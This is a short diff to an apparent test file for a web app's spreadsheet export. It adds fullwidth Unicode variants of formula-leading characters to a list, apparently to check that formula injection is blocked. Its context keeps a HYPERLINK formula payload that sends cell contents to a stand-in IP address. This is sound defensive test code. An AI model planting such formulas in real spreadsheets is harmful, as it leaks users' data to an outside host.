@@ -14,7 +14,7 @@ from hlom_live.web.paper.xlsx import xlsx_file
 from tests.support.web import API, Site
 
 FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1)'
-STARTS = ["=", "+", "-", "@", "\t", "\r"]
+STARTS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
 REST = [""] * (len(COLUMNS) - 1)
 
 
